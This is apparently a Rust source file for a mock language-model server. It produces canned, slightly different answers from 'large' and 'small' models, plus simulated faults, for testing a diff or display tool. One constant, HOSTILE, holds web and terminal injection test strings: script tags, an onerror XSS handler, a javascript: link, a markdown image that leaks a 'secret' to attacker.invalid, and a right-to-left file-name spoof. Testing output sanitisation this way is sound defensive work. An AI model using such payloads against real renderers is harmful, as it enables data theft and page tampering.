//! What the model says: realistic texts that differ a little between models, so that a diff has something to show.

use crate::count::input_tokens;
use crate::fault::Fault;
use crate::json::Json;
use crate::protocol::{Ending, Protocol, Script};
use crate::schema::instance;
use crate::tools::{call, images, results};

/// Two models' answers to the same question: about why canal locks work.
const LARGE: &str = "A canal lock is a box of water with a gate at each end. A boat enters at the lower level, the gates close behind it, and \
water from the upper canal fills the chamber through sluices until both levels are equal. Then the upper gates open and the boat moves on.\n\n\
Three things make it work:\n\n\
1. **Gravity does the lifting.** No pump is needed: water only ever flows downhill.\n\
2. **Mitre gates seal themselves.** Their V points upstream, so the pressure of the water holds them shut.\n\
3. **Sluices come first.** Opening a gate against a difference in level is impossible, and trying it is how paddles get broken.\n\n\
Going down is the same in reverse. Each passage spends one lockful, about 100 m³ on a narrow canal – so a summit needs a reservoir.";
const SMALL: &str = "A canal lock is a chamber of water with gates at both ends. A boat enters at the lower level, the gates close behind it, and \
water from the upper canal fills the chamber through sluices until both levels match. Then the upper gates open and the boat continues.\n\n\
Two things make it work:\n\n\
1. **Gravity does the lifting.** No pump is needed: water only ever flows downhill.\n\
2. **The gates seal themselves.** They form a V that points upstream, so water pressure holds them shut.\n\n\
Going down is the same in reverse. Each passage uses one lockful, roughly 100 m³ on a narrow canal – which is why summits have reservoirs.";

/// The same for prompts that ask for release notes.
const NOTES_LARGE: &str = "**What's new**\n\n\
- **Pin folders.** Keep the ones you use most at the top of the list.\n\
- **Text follows your system size.** Set it once for the whole phone and your notes match.\n\
- **Large photos no longer close the app.** You can add pictures above 40 MB.\n\
- **Search stays ready.** Its index now rebuilds while you go on writing.";
const NOTES_SMALL: &str = "**What's new**\n\n\
- **Pin folders.** Keep your most important ones at the top of the list.\n\
- **Text follows your system size.** Change it in the phone's settings and your notes match.\n\
- **Fixed:** adding a photo above 40 MB no longer closes the app.";

const REASONING: &str = "The question is about locks, so I should say what moves the boat. Water seeks its level; the gates only hold it. Then the \
order of the steps matters: sluices before gates.";
const REFUSAL: &str = "I can't help with that.";
const HOSTILE: &str = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">[link](javascript:alert(1)) \
![leak](https://attacker.invalid/leak.png?q=secret) \u{202e}gnp.exe\u{202c} \u{1b}[31mred\u{1b}[0m \u{0} {{constructor}} __proto__ 👩🏽‍💻 é";

/// The answer to a request under a fault.
pub fn script(protocol: Protocol, model: &str, body: &Json, fault: Fault) -> Script {
    let model = model.to_owned();
    let conversation = protocol.conversation(body);
    let schema = protocol.schema(body);
    let last_user =
        conversation.iter().rev().find(|(role, _)| role == "user").map(|(_, text)| text.clone()).unwrap_or_default();
    let asks_for_tag = conversation.iter().any(|(_, text)| text.contains("<answer>"));
    let notes = conversation.iter().any(|(_, text)| text.contains("release notes"));
    let plain = match (notes, is_small(&model)) {
        (true, true) => NOTES_SMALL,
        (true, false) => NOTES_LARGE,
        (false, true) => SMALL,
        (false, false) => LARGE,
    };
    let call = call(protocol, body, usize::from(is_small(&model))).filter(|_| fault != Fault::Refusal);
    let results = results(protocol, body);
    let text = match (fault, schema) {
        (Fault::Echo, _) => last_user,
        (Fault::Refusal, _) => REFUSAL.to_owned(),
        (Fault::Hostile, _) => HOSTILE.to_owned(),
        (_, Some(schema)) => instance(schema, usize::from(is_small(&model))).write(),
        _ if call.is_some() => "Let me look that up.".to_owned(),
        _ if !results.is_empty() => format!("The tool gave {}. {plain}", results.join(" and ")),
        _ if asks_for_tag => format!("<thinking>{REASONING}</thinking>\n<answer>{plain}</answer>"),
        _ => plain.to_owned(),
    };
    let text = match images(body) {
        _ if schema.is_some() => text,
        0 => text,
        1 => format!("I see 1 image. {text}"),
        count => format!("I see {count} images. {text}"),
    };
    let mut pieces = pieces(&text);
    if fault == Fault::Length {
        pieces.truncate(pieces.len() / 2);
    }
    let tool = (protocol == Protocol::Messages)
        .then(|| body.get("tool_choice").get("name").text().map(str::to_owned))
        .flatten()
        .filter(|_| call.is_none());
    Script {
        model,
        reasoning: if fault == Fault::Reasoning { self::pieces(REASONING) } else { Vec::new() },
        pieces,
        ending: match fault {
            Fault::Length => Ending::Length,
            Fault::Refusal => Ending::Refusal,
            _ => Ending::Stop,
        },
        input_tokens: input_tokens(&conversation),
        usage: fault != Fault::NoUsage,
        tool,
        call,
        logprobs: body.get("logprobs").write() == "true",
    }
}

/// Words with the space before them, as models stream them.
pub fn pieces(text: &str) -> Vec<String> {
    let mut pieces: Vec<String> = Vec::new();
    for c in text.chars() {
        let starts = matches!(c, ' ' | '\n');
        match pieces.last_mut() {
            Some(piece) if !starts || piece.ends_with(['\n', ' ']) => piece.push(c),
            _ => pieces.push(c.to_string()),
        }
    }
    pieces
}

fn is_small(model: &str) -> bool {
    ["small", "mini", "nano", "haiku", "luna", "flash", "lite", "8b", "3b"].iter().any(|word| model.contains(word))
}
